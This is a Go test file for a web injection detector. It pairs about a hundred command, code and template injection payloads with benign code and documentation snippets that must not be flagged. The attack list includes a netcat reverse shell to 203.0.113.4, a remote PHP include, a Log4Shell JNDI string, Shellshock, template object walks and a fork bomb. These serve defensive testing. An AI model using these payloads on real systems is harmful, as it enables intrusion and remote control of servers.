package detect

import (
	"context"
	"testing"
)

// Command, code and template injection: attacks written from the grammar that makes
// them execute, and hard benign text (documentation, source code, forum posts) that
// uses the same words and punctuation without breaking out of a value.

var cmdiQualityAttacks = []struct {
	where, in string
}{
	// PHP execution and inclusion fed with request data, wrappers or system paths
	{"query:q", "<?php passthru($_REQUEST['x']); ?>"},
	{"query:q", "; shell_exec('uname -a');"},
	{"query:q", "@passthru('cat /etc/hosts')"},
	{"body:text", "include('php://filter/read=string.rot13/resource=config.php');"},
	{"query:q", "require_once('http://203.0.113.7/x.txt');"},
	{"query:q", "<?php echo file_get_contents('/etc/hostname'); ?>"},
	{"query:q", "call_user_func('assert', $_POST['p']);"},
	{"query:q", "{${phpinfo()}}"},
	{"query:q", "eval(gzinflate(base64_decode('s0k=')))"},
	{"query:q", "get_defined_vars()"},
	// Node gadgets as one expression
	{"query:q", "require('child_process').execSync('id').toString()"},
	{"body:json", "global.process.mainModule.require('fs').readFileSync('/etc/hosts')"},
	{"query:q", "'+process.exit()+'"},
	// Ruby
	{"query:q", "syscall 60"},
	// Python object walks
	{"query:q", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"},
	{"query:q", "().__class__.__base__.__subclasses__()[59]"},
	{"query:q", "{{ request|attr('__class__') }}"},
	// Shell: separators, substitution, backticks, newline
	{"query:host", "127.0.0.1|id"},
	{"query:host", "127.0.0.1 | id |"},
	{"query:host", "x;uname"},
	{"query:host", "x && hostname"},
	{"query:q", "abc$(id)"},
	{"query:q", "'$(uname -a)'"},
	{"query:q", "`uname -a`"},
	{"query:q", "x=`id`"},
	{"query:q", "name`uname -a`"},
	{"query:host", "a|id|"},
	{"query:q", "x${@system('id')}"},
	{"query:q", "'${\"a\".getClass().forName(\"java.lang.Runtime\")}"},
	{"query:host", "example.org\nid"},
	{"query:host", "example.org\ncat /etc/hosts\n"},
	{"query:q", "w$@hoami"},
	{"query:q", "{cat,/etc/hosts}"},
	{"query:q", "alias ll=id; ll"},
	{"query:q", `if "%os%"=="Windows_NT" echo nt`},
	{"query:q", "if (x) == (x) echo same"},
	{"query:q", "diff <(ls /) <(ls /tmp)"},
	// leading quote then a command, batch loops, shell-only expansions
	{"query:q", "'ls -la /var/www/"},
	{"query:q", "\"net user guest /active:yes"},
	{"query:q", "';hostname"},
	{"query:q", "for %i in (*.bat) do type %i"},
	{"body:text", "for /f \"tokens=*\" %%a in ('whoami') do echo %%a"},
	{"query:q", "$[6 7]"},
	{"body:text", "~+"},
	{"query:q", "!-3!-4"},
	{"query:q", "alias -g q=id"},
	{"query:q", "`tail -n 5 /etc/group`"},
	// PHP
	{"query:q", ";phpversion();"},
	{"query:q", "$f //x\n['k'] (1)"},
	{"query:q", "{php}echo 1;{/php}"},
	{"query:q", "{{ '/etc/hosts'|file_excerpt(1,5) }}"},
	{"query:q", "print_r(scandir('/var/www'))"},
	{"query:q", "open('|uname -a').read"},
	{"body:text", "@(6*7)"},
	{"query:q", "; find / -perm -4000"},
	{"query:q", "$(`cat /etc/hosts`)"},
	{"body:text", "Content-Disposition: form-data; name='f'; filename='x. phtml'"},
	{"query:q", "( ) { :; }; /usr/bin/id"},
	{"query:q", "<?php echo \"probe\""},
	{"header:X-Class", "javax.management.loading.MLet"},
	{"cookie:c", "k=java.io.ObjectInputStream"},
	{"body:xml", "<a><b>java.lang.ProcessBuilder</b></a>"},
	{"query:q", "new java.lang.ProcessBuilder(new String[]{\"sh\",\"-c\",\"id\"}).start()"},
	{"query:q", "#{T(java.lang.System).getenv()}"},
	{"query:q", "'+__import__('os').popen('uname').read()+'"},
	{"query:q", "sleep 9"},
	{"query:q", "{{ config.SECRET_KEY }}"},
	{"query:q", "{{ ['__cla','ss__']|join }}"},
	{"query:q", "{% import os %}{{ os.popen('id').read() }}"},
	{"query:q", "{% include '/etc/hostname' %}"},
	{"query:q", "${pageContext.request.getSession()}"},
	{"query:q", "%{(#a=@java.lang.Runtime@getRuntime())}"},
	{"query:q", "${${lower:j}${lower:n}di:ldap://x.test/a}"},
	{"query:q", "; Start-Process calc.exe"},
	{"query:q", "Class.forName(\"java.lang.Runtime\")"},
	{"query:q", "Runtime.getRuntime().exec(\"/bin/sh -c id\")"},
	{"query:q", ";{$_POST['x']}"},
	{"query:q", "$__[1]($_[2])"},
	{"query:q", "> /var/www/html/x.php"},
	{"query:q", "{$smarty.version}"},
	{"query:q", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="},
	{"query:ip", "10.0.0.1;cat</etc/hosts"},
	{"query:ip", "10.0.0.1;w'h'o'am'i"},
	{"query:ip", "10.0.0.1;i\\d"},
	{"query:ip", "10.0.0.1;nc 203.0.113.4 9001 -e /bin/bash"},
	{"query:ip", "10.0.0.1;printenv"},
	{"query:ip", "10.0.0.1;id #"},
	{"body:json", "x`uname -a`"},
	{"header:X-Forwarded-For", "10.0.0.1|whoami"},
	{"query:ip", "10.0.0.1;/b?n/c?t /e?c/h?sts"},
	{"query:ip", "10.0.0.1;$0 -c id"},
	{"query:ip", "10.0.0.1;$'\\x77\\x68\\x6f\\x61\\x6d\\x69'"},
	{"query:ip", "10.0.0.1;a=who;b=ami;$a$b"},
	{"query:q", "${request.getServletContext()}"},
	{"query:q", "cat${IFS}/etc/hosts"},
	{"query:q", "().__class__.__bases__[0].__subclasses__()"},
	{"query:q", "''.__class__.__mro__"},
	{"query:q", "${#context['xwork.MethodAccessor.denyMethodExecution']=false}"},
	{"query:q", "{,ifconfig}"},
	{"query:q", "$(`id`)"},
	{"query:q", "() { :;}; echo; /usr/bin/id"},
	{"query:q", "x;/bin/cat /etc/hosts"},
	{"query:q", "process.mainModule.require('child_process')"},
	{"query:q", "'+process.kill(process.pid)+'"},
	{"query:q", "f(){ f|f& };f"},
	{"query:q", "$fn (42);"},
	// template probes
	{"query:q", "${'a'.concat('b')}"},
}

var cmdiQualityBenign = []struct {
	where, in string
}{
	// Node documentation
	{"body:text", "```js\nconst fs = require('node:fs');\nconst util = require('node:util');\n```"},
	{"query:q", "const { spawn } = require('node:child_process');"},
	{"query:q", "All benchmarks use the `require('../common.js')` module."},
	{"query:q", "Calling `process.exit()` forces the process to exit as quickly as possible."},
	{"query:q", "vm.runInContext('globalVar *= 2;', context);"},
	{"query:q", "const filename = `icudt${process.versions.icu.split('.')[0]}.dat`;"},
	{"body:text", "<span class=\"hljs-subst\">${buf.toString('hex')}</span>"},
	// Go and C source
	{"body:text", "func Seek(fd int, offset int64, whence int) (off int64, err error) {\n\tr0, _, e1 := Syscall(SYS_LSEEK, uintptr(fd), uintptr(offset), uintptr(whence))\n\treturn\n}"},
	{"body:text", "r0, _, _ := syscall6(uintptr(unsafe.Pointer(&libc_getppid_trampoline_addr)), 0, 0, 0, 0, 0, 0)"},
	{"body:text", "if v := os.Getenv(\"GO_WANT_HELPER_PROCESS\"); v != \"1\" {\n\treturn\n}"},
	{"body:text", "// var mv Map\n// m = &mv\nm = stackTempAddr(&ring, typ)"},
	{"body:text", "value = getenv(name);\nif (!value)\n    return NULL;"},
	{"body:text", "s = PyRun_String(\"done()\", Py_eval_input, g, l);\nif (s == NULL)\n    goto error;"},
	{"body:text", "fputs(\"usage: gzjoin f1.gz [f2.gz ...] > out.gz\\n\", stderr);"},
	{"query:q", "add option to system() to return subshell exit status"},
	{"query:q", "To run a command-line shell, use popen() instead of fopen()."},
	{"query:q", "strVarRe := regexp.MustCompile(`^\\$[0-9]+ = (0x[0-9a-f]+)`)"},
	{"query:q", "// pointerToMemberType parses: <pointer-to-member-type> ::= M <(class) type> <(member) type>"},
	// Python source
	{"body:text", "def __repr__(self):\n    return f\"{self.__class__.__name__}({self.name!r})\""},
	{"body:text", "for name, signum in list(signal.__dict__.items()):\n    if name.startswith('SIG'):\n        pass"},
	{"body:text", "if module == \"codeop\":\n    del new_stack[0]"},
	{"body:text", "sock = socket.socket()\nwith sock:\n    sock.bind(('', 0))"},
	{"body:text", "module = importlib.import_module('unittest')"},
	{"query:q", "Compute a matrix `B = A^{1/2}` such that `B^2 = A`."},
	// Ruby and regex alternation
	{"body:text", "(1..id).each{|id|\n  r.expire(id, 1000)\n}"},
	{"query:q", "r'complete|dirs|echo|echotc|eval|exec|exit'"},
	// markdown prose about commands
	{"query:q", "Removes files and directories (modeled on the standard POSIX `rm` utility)."},
	{"query:q", "The output of `ps --info` is often quite useful."},
	{"query:q", "* `id` {string|number} The group name or ID"},
	{"query:q", "Verifies the certificate `cert` is issued to `hostname`."},
	{"query:q", "fix an issue that caused failed\nPython function calls to leak"},
	{"query:q", "dd: support iseek= and oseek=\nAlias iseek=N to skip=N, oseek=N to seek=N"},
	{"query:q", "tests: use \"${parameter:-word}\" shell syntax"},
	{"query:q", "// Contains types. [{id, address, size, ptrspan, name length, name string} ...]"},
	{"query:q", "const x = stat('.');"},
	{"query:q", "btnToActive.label = `${text.textContent} (${btnToActive.dataset.label})`;"},
	{"query:q", "This API converts the C `int64_t` type to the JavaScript `BigInt` type."},
	{"body:text", "type MapZone struct {\n\tTerritory string `xml:\"territory,attr\"`\n\tType string `xml:\"type,attr\"`\n}"},
	{"query:q", "The range ~+5% to ~-3% is typical."},
	{"query:q", "for each item in (list) do something"},
	{"query:q", "You can use an alias for it, e.g. alias gs to git status."},
	{"query:q", "Use File.open('data.txt') to read it; pipes are written as 'a|b' in the grammar."},
	{"query:q", "Send an email to @(support) for help (1+2 business days)."},
	{"body:text", "```php\n<?php\necho \"Hello, world\";\n?>\n```"},
	{"body:text", "In a template you write:\n<?php echo htmlspecialchars($title); ?>\nand the tag is closed."},
	{"query:q", "ProcessBuilder vs Runtime.exec"},
	{"body:text", "java Runtime.getRuntime().exec() hangs on Windows when the stream is not read"},
	{"body:text", "import java.util.List;\nimport java.io.File;\nimport org.apache.commons.lang3.StringUtils;\n\npublic class A {}"},
	{"query:q", "os.system(\"clear\") is not portable; use subprocess instead."},
	{"body:text", "#include <stdlib.h>\nint main(void) { system(\"pause\"); return 0; }"},
	{"query:q", "base64_decode($str) returns false on invalid input"},
	{"query:q", "sleep 5 seconds in bash"},
	{"body:text", "Spring EL: #{systemProperties['user.home']}"},
	{"body:text", "console.log(`Total: ${total.toFixed(2)}`);"},
	{"body:text", "{% load static %}\n{% include \"partials/header.html\" %}\n{% from 'forms.html' import field %}"},
	{"body:text", "{% import 'macros.html' as m %}{{ m.input('name') }}"},
	{"body:text", "<p>{{ request.user.username }}</p> {{ url_for('static', filename='app.css') }}"},
	{"body:text", "{{ config.SITE_NAME }} and {{ request.args.get('q') }} and {{ session['user'] }}"},
	{"body:text", "{{ items|join(', ') }} and {{ name|e }} and {{ \"%.2f\"|format(price) }}"},
	{"body:text", "<c:out value=\"${user.name}\"/> and ${sessionScope.cart.total} and ${header['User-Agent']}"},
	{"body:text", "#set($name = \"World\")\nHello $name! <#assign x = 1>"},
	{"body:text", "%{#parameters.id} in OGNL docs"},
	{"body:text", "<Property name=\"logdir\">${sys:catalina.base}/logs</Property> ${env:HOME}"},
	{"body:text", "if (isset($_POST['submit'])) { $name = $_POST['name']; }"},
	{"body:text", "$obj->$method($arg);"},
	{"body:text", "echo \"done\" >> /tmp/build.log"},
	{"body:text", "Error: Command failed: /bin/sh -c npm install"},
	{"body:text", "Windows docs: run cmd /c dir to list files."},
	{"query:q", "java.lang.NullPointerException"},
	{"query:q", "\"java.util.ConcurrentModificationException\""},
	{"body:text", "Class.forName(\"com.mysql.cj.jdbc.Driver\");\nMethod m = cls.getDeclaredMethod(\"run\");"},
	{"body:text", "new ProcessBuilder(\"git\", \"status\").inheritIO().start();"},
	{"body:text", "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser, then Invoke-WebRequest fetches the file."},
	{"body:text", "<li v-for=\"item in items\">{{ item.name.toUpperCase() }}</li>"},
	{"body:text", "{$smarty.now|date_format} and {$smarty.get.page}"},
	{"body:text", "H4sIAAAAAAAAA+3BMQEAAADCoPVPbQwfoAAAAAAAAAAAAAAAAAAAAIC3AYbSVKsAQAAA"},
	{"body:text", "function greet(name) { return `Hello, ${name}!`; }\nconst url = `${baseUrl}/api/${version}/items?id=${id}`;"},
	{"body:text", "{{ range .Items }}<li>{{ .Name }}</li>{{ end }} {{ .Values.image.repository }}:{{ .Values.image.tag }}"},
	{"body:text", "run: echo \"${{ github.ref }}\" && npm ci"},
	{"body:text", "<pattern>%d{HH:mm:ss.SSS} [%thread] %-5level %logger{36} - %msg%n</pattern>"},
	{"query:q", "C:\\Users\\john\\AppData\\Local\\Temp\\setup.exe"},
	{"body:text", "a | b means a divides b; gcd(a, b) & lcm(a, b) are related by a*b = gcd*lcm."},
	{"body:text", "| Command | Description |\n|---|---|\n| `ls` | list files |\n| `pwd` | print directory |"},
	{"query:q", "\"TRUE\""},
	{"query:q", "\"flagging\" -american -festive"},
	{"body:text", "Accept-Language: en;q=0.9, de;q=0.8"},
	{"body:text", "Search /usr/share/doc?/lang for docs; see /path?x=1/y"},
	{"query:q", "`id` returns the user id; `whoami` returns the name."},
	{"query:q", "How do I use ${IFS} to split a string?"},
	{"query:q", "Backticks like `date` are the old way to run a command."},
	{"body:text", "setTimeout(() => {\n  console.log('Exiting.');\n  process.exit(0);\n}, 100);"},
	{"body:text", "usage of process.binding('async_wrap') is deprecated"},
	{"body:text", "const ls = spawn('ls', ['-lh', '/usr']);"},
	{"body:text", "fwrite(\"\\x1f\\x8b\\x08\\0\\0\\0\\0\\0\\0\\3\", 10, 1, out);"},
	{"body:text", "For example, `require('/home/marco/foo.js')` loads the file."},
	{"body:text", "<p>A file in any directory listed in <code>/etc/mtab</code>.</p>"},
	{"body:text", "def __reduce__(self):\n    return (self.__class__.__bases__, str(self))"},
	{"body:text", "mro = obj_class.__mro__[1:-1]\nbuiltins = frame.f_globals['__builtins__']\nif isinstance(x, (\"\".__class__, bytes)):\n    pass"},
	{"body:text", "globalThis.Array = function() {\n  return [1, 2, 3];\n};\nglobalThis.Array.x = 1;"},
	{"body:text", "Tests: Replace non portable shell parameter expansion for Bourne shell (/bin/sh). Even though"},
	{"body:text", "console.log(`Starting directory: ${cwd()}`);"},
	{"body:text", "qq. ${#foo[X]}, where X is 0, @, or *, now work as in ksh93"},
	{"body:text", "// writeErrData is the common parts of writeErr{,Str}."},
	{"body:text", "ps.on('close', (code) => { console.log(`ps process exited with code ${code}`); });"},
	{"query:q", "$HOME (your home directory) is set by login"},
	{"query:q", "$price (in USD)"},
	// shell scripts: assignments and arguments
	{"body:text", "CURR_DIR=$(pwd)\nfor arg in \"$@\"\ndo\n  echo \"$arg\"\ndone"},
	{"body:text", "da=\"test$N $(date) $RANDOM\""},
	{"body:text", "headrev=$(git rev-parse --verify HEAD) || exit $?\nif test -n \"$headrev\"; then\n  echo ok\nfi"},
}

func TestCmdiQualityAttacks(t *testing.T) {
	d := newTestDetector(t)
	for _, c := range cmdiQualityAttacks {
		r := d.Detect(context.Background(), c.in, c.where)
		if !r.IsThreat {
			t.Errorf("missed %s %q (score %.2f, %v)", c.where, c.in, r.ThreatScore, r.Threats)
		}
	}
}

func TestCmdiQualityBenign(t *testing.T) {
	d := newTestDetector(t)
	for _, c := range cmdiQualityBenign {
		r := d.Detect(context.Background(), c.in, c.where)
		if r.IsThreat {
			t.Errorf("flagged %s %q: %s %.2f %v", c.where, c.in, r.Category, r.ThreatScore, r.Threats)
		}
	}
}
